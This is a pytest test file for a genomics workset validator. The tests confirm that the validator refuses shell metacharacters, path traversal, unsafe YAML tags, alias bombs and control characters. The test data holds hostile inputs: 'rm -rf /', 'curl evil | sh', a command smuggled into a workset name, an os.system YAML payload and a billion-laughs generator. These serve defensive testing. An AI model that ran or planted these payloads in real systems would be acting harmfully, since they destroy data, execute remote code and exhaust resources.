"""Workset files: what the monitor reads from daylily_work.yaml, daylily_info.yaml and
stage_samples.tsv, and what it refuses (with a code, a place and a fix)."""

from __future__ import annotations

import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from wsmon.config.settings import Settings
from wsmon.engine.worksetfiles import (
    TSV_COLUMNS,
    RawFile,
    ShellSyntaxError,
    estimate_resources,
    parse_info_yaml,
    parse_stage_tsv,
    parse_work_yaml,
    resolve_fastq,
    shell_words,
    validate_files,
    validate_local_folder,
)

HEADER = "\t".join(TSV_COLUMNS)


def tsv_row(sample: str = "S1", r1: str = "sample_data/S1_R1.fastq.gz",
            r2: str = "sample_data/S1_R2.fastq.gz", **overrides: str) -> str:
    values = {c: "x" for c in TSV_COLUMNS}
    values.update(SAMPLE_ID=sample, R1_FQ=r1, R2_FQ=r2, PATH_TO_CONCORDANCE_DATA_DIR="")
    values.update(overrides)
    return "\t".join(values[c] for c in TSV_COLUMNS)


def codes(findings) -> list[str]:
    return [f.code for f in findings]


# -- the real folders -------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["test_allgiab", "test_snv", "test_help"])
def test_real_daylily_folders_validate_as_they_are(daylily_fixtures: str, name: str) -> None:
    report = validate_local_folder(Path(daylily_fixtures) / name, Settings())
    assert report.valid, [f.message for f in report.errors]
    assert report.info["priority"] == "normal"  # a copy of the old monitor config: no priority
    assert report.info["ignored_keys"] == ["aws", "cluster", "monitor", "pipeline"]
    assert report.work["export_uri"].startswith("s3://lsmc-dayoa-omics-analysis-us-west-2/")
    assert report.work["clone_args"][:2] == ["-d", name]  # {workdir_name} defaults to the folder


def test_real_run_suffix_splits_exactly_as_bash_did(daylily_fixtures: str) -> None:
    report = validate_local_folder(Path(daylily_fixtures) / "test_snv", Settings())
    expected = ["produce_snv_concordances", "-p", "-k", "-j", "20", "--config",
                "aligners=[sent,bwa2a,strobe]", "dedupers=[dppl]", "snv_callers=[sentd,deep19,oct]"]
    assert report.work["run_suffix"] == expected
    assert validate_local_folder(Path(daylily_fixtures) / "test_help", Settings()).work["run_suffix"] == ["help"]
    assert validate_local_folder(Path(daylily_fixtures) / "test_allgiab", Settings()).estimate["samples"] == 7


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash to compare with")
@pytest.mark.parametrize("raw", [
    'produce_snv_concordances  -p -k -j 20 --config aligners=["sent","bwa2a","strobe"] dedupers=["dppl"]',
    "a 'b c' \"d e\" f\\ g '' h\"i\"'j'",
    'x "a\\"b" "back\\\\slash" \'it\'\\\'\'s\'',
    "literal 'a;b|c&d>e<f$(g)`h`'",
])
def test_shell_words_match_bash(raw: str) -> None:
    out = subprocess.run(["bash", "--noprofile", "--norc", "-c",
                          f"shopt -u failglob nullglob; cd /; for w in {raw}; do printf '%s\\0' \"$w\"; done"],
                         capture_output=True, check=True, cwd="/")
    assert shell_words(raw) == out.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize("raw, code", [
    ("run; rm -rf /", "WS-CFG-004"), ("run | tee x", "WS-CFG-004"), ("run & x", "WS-CFG-004"),
    ("run && x", "WS-CFG-004"), ("run $(id)", "WS-CFG-004"), ("run `id`", "WS-CFG-004"),
    ("run > /etc/passwd", "WS-CFG-004"), ("run < x", "WS-CFG-004"), ('run "$(id)"', "WS-CFG-004"),
    ("run $HOME", "WS-CFG-004"), ("run ${X}", "WS-CFG-004"), ("run\nrm -rf /", "WS-CFG-004"),
    ("run (x)", "WS-CFG-004"), ("run {a,b}", "WS-CFG-004"), ("run #c", "WS-CFG-004"),
    ("run ~/x", "WS-CFG-004"), ("run 'a\x1bb'", "WS-CFG-010"), ("run \r", "WS-CFG-010"),
    ("run 'open", "WS-CFG-005"), ('run "open', "WS-CFG-005"),
])
def test_what_a_shell_would_have_interpreted_is_refused(raw: str, code: str) -> None:
    with pytest.raises(ShellSyntaxError) as err:
        shell_words(raw)
    assert err.value.code == code


def test_operators_inside_single_quotes_are_literal_words() -> None:
    assert shell_words("x 'a;b' 'c|d' '$(e)'") == ["x", "a;b", "c|d", "$(e)"]
    assert shell_words("x a\\;b") == ["x", "a;b"]  # escaped: the shell passed it on too
    assert shell_words("cost$ a=b,c {workset}") == ["cost$", "a=b,c", "{workset}"]


# -- daylily_work.yaml ------------------------------------------------------------------------
@pytest.mark.parametrize("key", ["dy-r", "dy_r", "dy", "run", "run_suffix", "run-suffix", "run_cmd",
                                 "run-command"])
def test_each_run_suffix_alias(key: str) -> None:
    work, findings = parse_work_yaml(f"{key}: produce -j 4\n", "ws1")
    assert work["run_suffix"] == ["produce", "-j", "4"], findings
    assert not findings


@pytest.mark.parametrize("key", ["day-clone", "day_clone_args", "clone_args", "clone-args", "clone"])
def test_each_clone_alias(key: str) -> None:
    work, findings = parse_work_yaml(f"dy-r: help\n{key}: -d {{workdir_name}} -t main\n", "ws1")
    assert work["clone_args"] == ["-d", "ws1", "-t", "main"]
    assert not findings


@pytest.mark.parametrize("key", ["export_uri", "export-uri", "export"])
def test_each_export_alias(key: str) -> None:
    work, _ = parse_work_yaml(f"dy-r: help\n{key}: s3://b/out/{{workset}}/\n", "ws1")
    assert work["export_uri"] == "s3://b/out/ws1/"


def test_value_may_be_a_list_or_a_mapping() -> None:
    work, findings = parse_work_yaml("dy-r: [produce, -j, 8]\nclone:\n  args: -t main\n", "w")
    assert work["run_suffix"] == ["produce", "-j", "8"]
    assert work["clone_args"] == ["-t", "main"]
    assert not findings
    for mk in ("suffix", "args", "cmd", "command"):
        work, _ = parse_work_yaml(f"dy-r:\n  {mk}: help\n", "w")
        assert work["run_suffix"] == ["help"]
    _, findings = parse_work_yaml("dy-r:\n  other: help\n", "w")
    assert "WS-CFG-006" in codes(findings)


def test_substitution_happens_inside_words_so_a_name_cannot_add_words() -> None:
    work, findings = parse_work_yaml("dy-r: produce --tag {workset}\nday-clone: -d {workdir_name}\n",
                                     "my ws; rm -rf /")
    assert not findings
    assert work["run_suffix"] == ["produce", "--tag", "my ws; rm -rf /"]
    assert work["clone_args"] == ["-d", "my_ws__rm_-rf__"]  # a safe directory name


def test_explicit_workdir_name_is_used_and_checked() -> None:
    work, _ = parse_work_yaml("dy-r: help\nworkdir_name: run-{workset}\nday-clone: -d {workdir_name}\n", "a")
    assert work["clone_args"] == ["-d", "run-a"] and work["workdir_name"] == "run-a"
    _, findings = parse_work_yaml("dy-r: help\nworkdir_name: ../escape\n", "a")
    assert "WS-CFG-006" in codes(findings)


def test_shell_operator_in_yaml_value_names_file_line_and_column() -> None:
    work, findings = parse_work_yaml("notes: hi\ndy-r: produce; curl evil | sh\n", "w")
    assert work["run_suffix"] == []
    (problem,) = [f for f in findings if f.code == "WS-CFG-004"]
    assert problem.file == "daylily_work.yaml" and problem.line == 2 and problem.column == 7
    assert "daylily_work.yaml line 2, column 7" in problem.message and "';'" in problem.message
    assert problem.remediation
    assert "WS-CFG-003" not in codes(findings)  # the cause is named once, not twice


def test_missing_run_suffix() -> None:
    _, findings = parse_work_yaml("day-clone: -t main\n", "w")
    assert codes(findings) == ["WS-CFG-003"]


def test_malformed_yaml_reports_where() -> None:
    work, findings = parse_work_yaml("dy-r: [unclosed\nnotes: x\n", "w")
    assert work is None
    assert findings[0].code == "WS-CFG-002" and findings[0].line is not None
    _, findings = parse_work_yaml("- a\n- b\n", "w")
    assert findings[0].code == "WS-CFG-002" and "mapping" in findings[0].message


def test_yaml_is_loaded_safely() -> None:
    work, findings = parse_work_yaml("dy-r: !!python/object/apply:os.system ['id']\n", "w")
    assert work is None and findings[0].code == "WS-CFG-002"


def test_conflicting_aliases_are_an_error_and_duplicates_warn() -> None:
    _, findings = parse_work_yaml("dy-r: a\nrun_suffix: b\n", "w")
    assert "WS-CFG-007" in codes(findings) and any(f.severity == "error" for f in findings)
    work, findings = parse_work_yaml("dy-r: a\ndy-r: b\n", "w")
    assert work["run_suffix"] == ["b"] and codes(findings) == ["WS-CFG-007"]


def test_optional_work_fields() -> None:
    work, findings = parse_work_yaml("dy-r: help\ncluster_name: c1\nbudget: '12.5'\nnotes: n\n", "w")
    assert (work["cluster_name"], work["budget"], work["notes"]) == ("c1", 12.5, "n")
    _, findings = parse_work_yaml("dy-r: help\nbudget: lots\n", "w")
    assert codes(findings) == ["WS-CFG-006"]
    _, findings = parse_work_yaml("dy-r: help\nexport_uri: /local/dir\n", "w")
    assert codes(findings) == ["WS-CFG-009"]


# -- daylily_info.yaml ------------------------------------------------------------------------
def test_info_fields_and_estimate_overrides() -> None:
    info, findings = parse_info_yaml("priority: URGENT\ncustomer_id: acme\nmax_retries: 2\n"
                                     "preferred_availability_zone: us-west-2d\nestimate:\n  vcpus: 32\n")
    assert not findings
    assert info["priority"] == "urgent" and info["customer_id"] == "acme"
    assert info["max_retries"] == 2 and info["preferred_availability_zone"] == "us-west-2d"
    assert info["estimate"] == {"vcpus": 32}


@pytest.mark.parametrize("text", ["priority: high\n", "max_retries: -1\n", "max_retries: many\n",
                                  "cost_usd: cheap\n"])
def test_bad_info_values(text: str) -> None:
    _, findings = parse_info_yaml(text)
    assert codes(findings) == ["WS-CFG-006"]


def test_empty_info_file_means_defaults() -> None:
    info, findings = parse_info_yaml("")
    assert info["priority"] == "normal" and not findings


# -- stage_samples.tsv ------------------------------------------------------------------------
def test_tsv_missing_required_column_is_an_error_other_columns_warn() -> None:
    cols = [c for c in TSV_COLUMNS if c not in ("R2_FQ", "LANE")]
    text = "\t".join(cols) + "\n" + "\t".join("v" for _ in cols) + "\n"
    _, findings = parse_stage_tsv(text)
    by_code = {f.code: f for f in findings}
    assert by_code["WS-DAT-004"].severity == "error" and "R2_FQ" in by_code["WS-DAT-004"].message
    assert by_code["WS-DAT-005"].severity == "warning" and "LANE" in by_code["WS-DAT-005"].message


def test_tsv_extra_column_is_kept() -> None:
    sheet, findings = parse_stage_tsv(HEADER + "\tMY_COL\n" + tsv_row() + "\tmine\n")
    assert not findings and sheet.rows[0]["MY_COL"] == "mine"


@pytest.mark.parametrize("text, code", [("", "WS-DAT-002"), ("\n\n", "WS-DAT-002"),
                                        (HEADER + "\n", "WS-DAT-003")])
def test_empty_tsv_or_header_only(text: str, code: str) -> None:
    _, findings = parse_stage_tsv(text)
    assert code in codes(findings)


def test_comma_separated_sheet_gets_a_hint() -> None:
    _, findings = parse_stage_tsv("SAMPLE_ID,R1_FQ,R2_FQ\nS1,a,b\n")
    assert "comma" in findings[0].message


def test_row_problems_name_line_and_column() -> None:
    text = HEADER + "\n" + tsv_row() + "\n" + tsv_row(sample="") + "\n"
    _, findings = parse_stage_tsv(text)
    (problem,) = findings
    assert problem.code == "WS-DAT-006" and problem.line == 3
    assert problem.column == len(tsv_row().split("\t")[0]) + 2  # SAMPLE_ID is the 2nd field


def test_binary_and_oversized_files_are_clear_errors() -> None:
    settings = Settings(discovery={"max_file_bytes": 1000})
    files = {"daylily_work.yaml": RawFile(10, b"dy-r: help"), "daylily_info.yaml": RawFile(0, b""),
             "stage_samples.tsv": RawFile(3, b"\x89PNG\x00\x00")}
    report = validate_files("w", files, settings=settings, target="t", workset_bucket="b",
                            workset_prefix="p/w/", has_sample_data=True, exists=None)
    (problem,) = report.errors
    assert problem.code == "WS-DAT-011" and "NUL" in problem.message
    files["stage_samples.tsv"] = RawFile(50_000_000, None)
    report = validate_files("w", files, settings=settings, target="t", workset_bucket="b",
                            workset_prefix="p/w/", has_sample_data=True, exists=None)
    (problem,) = report.errors
    assert problem.code == "WS-DAT-010" and "50,000,000 bytes" in problem.message
    files["stage_samples.tsv"] = RawFile(4, b"\xff\xfe\xfa\n")
    report = validate_files("w", files, settings=settings, target="t", workset_bucket="b",
                            workset_prefix="p/w/", has_sample_data=True, exists=None)
    assert report.errors[0].code == "WS-DAT-011" and "UTF-8" in report.errors[0].message


# -- FASTQ locations --------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["other/x.fq", "../ws2/sample_data/x.fq", "sample_data/../x.fq",
                                   "/etc/passwd", "x.fq", "https://host/x.fq", "sample_data"])
def test_relative_fastq_must_stay_in_sample_data(value: str) -> None:
    ref, problem = resolve_fastq(value, workset_bucket="b", workset_prefix="src/ws/", allowed_buckets=[])
    assert ref is None and problem.code == "WS-DAT-007"


def test_fastq_references_that_are_accepted() -> None:
    ref, problem = resolve_fastq("./sample_data/a/x.fq", workset_bucket="b", workset_prefix="src/ws/",
                                 allowed_buckets=[])
    assert problem is None and ref.uri == "s3://b/src/ws/sample_data/a/x.fq"
    ref, problem = resolve_fastq("s3://other/k/x.fq", workset_bucket="b", workset_prefix="p/",
                                 allowed_buckets=["other"])
    assert problem is None and ref.uri == "s3://other/k/x.fq"


def test_s3_fastq_rules() -> None:
    _, problem = resolve_fastq("s3://b/src/ws/sample_data/../../secret", workset_bucket="b",
                               workset_prefix="src/ws/", allowed_buckets=[])
    assert problem.code == "WS-DAT-007" and "'..'" in problem.message
    _, problem = resolve_fastq("s3://elsewhere/x.fq", workset_bucket="b", workset_prefix="p/",
                               allowed_buckets=[])
    assert problem.code == "WS-DAT-009" and problem.severity == "error"
    _, problem = resolve_fastq("s3://b", workset_bucket="b", workset_prefix="p/", allowed_buckets=[])
    assert problem.code == "WS-DAT-007"


def test_local_folder_checks_relative_fastqs_on_disk(tmp_path: Path) -> None:
    (tmp_path / "sample_data").mkdir()
    (tmp_path / "sample_data" / "S1_R1.fastq.gz").write_bytes(b"x")
    (tmp_path / "daylily_work.yaml").write_text("dy-r: help\n")
    (tmp_path / "daylily_info.yaml").write_text("priority: low\n")
    (tmp_path / "stage_samples.tsv").write_text(HEADER + "\n" + tsv_row() + "\n")
    report = validate_local_folder(tmp_path, Settings())
    (problem,) = report.errors
    assert problem.code == "WS-DAT-008" and "S1_R2" in problem.message and problem.line == 2
    (tmp_path / "sample_data" / "S1_R2.fastq.gz").write_bytes(b"x")
    report = validate_local_folder(tmp_path, Settings())
    assert report.valid and report.info["priority"] == "low"


def test_local_folder_missing_files(tmp_path: Path) -> None:
    report = validate_local_folder(tmp_path, Settings())
    assert {"WS-CFG-001", "WS-CFG-008", "WS-DAT-001", "WS-DAT-012"} <= set(codes(report.errors))


# -- estimate ---------------------------------------------------------------------------------
def test_estimate_uses_the_config_assumptions() -> None:
    disc = Settings(discovery={"estimate_vcpu_hours_per_sample": 10, "estimate_vcpus": 20,
                               "estimate_cost_per_vcpu_hour": 0.1, "estimate_storage_gb_per_sample": 5,
                               "estimate_memory_gb": 64, "estimate_overhead_hours": 1}).discovery
    est = estimate_resources(4, disc)
    assert est == {"samples": 4, "vcpus": 20, "memory_gb": 64.0, "storage_gb": 20.0,
                   "vcpu_hours": 40.0, "cost_usd": 4.0, "duration_hours": 3.0}
    assert estimate_resources(4, disc, {"vcpus": 40})["duration_hours"] == 2.0


def test_estimate_counts_distinct_samples(tmp_path: Path) -> None:
    settings = Settings()
    tsv = HEADER + "\n" + tsv_row(LANE="1") + "\n" + tsv_row(LANE="2", r1="sample_data/S1_L2_R1.fq") + "\n"
    files = {"daylily_work.yaml": RawFile(10, b"dy-r: help"), "daylily_info.yaml": RawFile(0, b""),
             "stage_samples.tsv": RawFile(len(tsv), tsv.encode())}
    report = validate_files("w", files, settings=settings, target="t", workset_bucket="b",
                            workset_prefix="p/w/", has_sample_data=True, exists=lambda refs: {})
    assert report.valid and report.rows == 2 and report.estimate["samples"] == 1


def test_shlex_agrees_on_plain_quoting() -> None:
    raw = "a 'b c' \"d\" e\\ f"
    assert shell_words(raw) == shlex.split(raw)


# -- hostile folders (issue 11) ---------------------------------------------------------------
def billion_laughs(levels: int = 9, width: int = 9) -> str:
    """The classic alias bomb: ``width ** levels`` strings from a few hundred bytes."""
    lines = ['lol0: &lol0 "' + "lol" * 3 + '"']
    for i in range(1, levels + 1):
        lines.append(f"lol{i}: &lol{i} [" + ", ".join([f"*lol{i - 1}"] * width) + "]")
    return "\n".join(lines) + "\n"


def folder_files(work: str = "dy-r: help\n", info: str = "", sheet: str | None = None) -> dict[str, RawFile]:
    sheet = sheet if sheet is not None else HEADER + "\n" + tsv_row() + "\n"
    return {name: RawFile(len(text.encode()), text.encode()) for name, text in
            (("daylily_work.yaml", work), ("daylily_info.yaml", info), ("stage_samples.tsv", sheet))}


def validate(files: dict[str, RawFile], settings: Settings | None = None, name: str = "w"):
    return validate_files(name, files, settings=settings or Settings(), target="t",
                          workset_bucket="b", workset_prefix=f"p/{name}/", has_sample_data=True,
                          exists=None)


def test_alias_bomb_in_notes_is_a_coded_error_naming_the_place() -> None:
    work = billion_laughs() + "dy-r: help\nnotes: *lol9\n"
    report = validate(folder_files(work=work))
    (problem,) = report.errors
    assert problem.code == "WS-CFG-015" and problem.file == "daylily_work.yaml"
    assert "expand" in problem.message and problem.line is not None
    assert report.work is None


def test_alias_bomb_in_any_value_of_daylily_info_is_refused() -> None:
    info = billion_laughs() + "priority: *lol9\n"
    report = validate(folder_files(info=info))
    assert [f.code for f in report.errors] == ["WS-CFG-015"]
    assert report.errors[0].file == "daylily_info.yaml"


@pytest.mark.parametrize("text, words", [
    ("a: &a [*a]\ndy-r: help\n", "contains it"),
    ("deep: " + "[" * 100 + "]" * 100 + "\ndy-r: help\n", "deeper than"),
    ("base: &b x\n" + "".join(f"k{i}: *b\n" for i in range(101)) + "dy-r: help\n", "alias references"),
])
def test_recursive_deep_or_alias_heavy_yaml_is_refused(text: str, words: str) -> None:
    work, findings = parse_work_yaml(text, "w")
    assert work is None and codes(findings) == ["WS-CFG-015"] and words in findings[0].message


def test_ordinary_anchors_and_aliases_still_work() -> None:
    work, findings = parse_work_yaml("base: &args -d {workdir_name} -t main\n"
                                     "day-clone: *args\ndy-r: help\n", "ws1")
    assert findings == [] and work["clone_args"] == ["-d", "ws1", "-t", "main"]


def test_a_sheet_past_the_row_cap_is_one_coded_error() -> None:
    sheet = HEADER + "\n" + "\n".join(tsv_row(sample=f"S{i}", r1=f"sample_data/{i}_1.fq",
                                              r2=f"sample_data/{i}_2.fq") for i in range(6)) + "\n"
    capped = Settings(discovery={"max_sample_rows": 5})
    report = validate(folder_files(sheet=sheet), capped)
    (problem,) = report.findings
    assert problem.code == "WS-DAT-016" and "6 sample rows" in problem.message
    assert "discovery.max_sample_rows" in problem.message
    assert validate(folder_files(sheet=sheet), Settings(discovery={"max_sample_rows": 6})).valid


def test_a_100k_row_sheet_is_refused_by_the_default_cap() -> None:
    row = tsv_row() + "\n"
    report = validate(folder_files(sheet=HEADER + "\n" + row * 100_000),
                      Settings(discovery={"max_file_bytes": 100_000_000}))
    assert [f.code for f in report.findings] == ["WS-DAT-016"]
    assert "100,000 sample rows" in report.findings[0].message


def test_findings_are_capped_per_folder_with_a_count_of_the_rest() -> None:
    sheet = HEADER + "\n" + (tsv_row() + "\n") * 300  # 299 duplicate-row warnings
    report = validate(folder_files(sheet=sheet), Settings(discovery={"max_findings_per_folder": 10}))
    assert len(report.findings) == 11
    summary = report.findings[-1]
    assert summary.code == "WS-DAT-017" and summary.severity == "warning"
    assert "290 more findings" in summary.message and "WS-DAT-013 x289" in summary.message
    assert report.valid  # only warnings were left out


def test_a_capped_report_stays_invalid_when_errors_were_left_out() -> None:
    rows = [tsv_row(sample=f"S{i}", r1=f"sample_data/{i}_1.fq", r2=f"sample_data/{i}_2.fq")
            for i in range(5)] + [tsv_row(sample="S9", r1="../escape.fq")]
    sheet = HEADER + "\n" + tsv_row() + "\n" + tsv_row() + "\n" + "\n".join(rows) + "\n"
    report = validate(folder_files(sheet=sheet), Settings(discovery={"max_findings_per_folder": 1}))
    assert codes(report.findings) == ["WS-DAT-013", "WS-DAT-017"]
    assert report.findings[-1].severity == "error" and not report.valid


@pytest.mark.parametrize("name", ["ws\x1b[31mred", "ws\nline", "ws\ttab", "ws\x9bcsi"])
def test_folder_name_with_control_characters_fails_validation(name: str) -> None:
    report = validate(folder_files(), name=name)
    assert [f.code for f in report.errors] == ["WS-DAT-015"]
    assert "\x1b" not in report.errors[0].message and "\n" not in report.errors[0].message
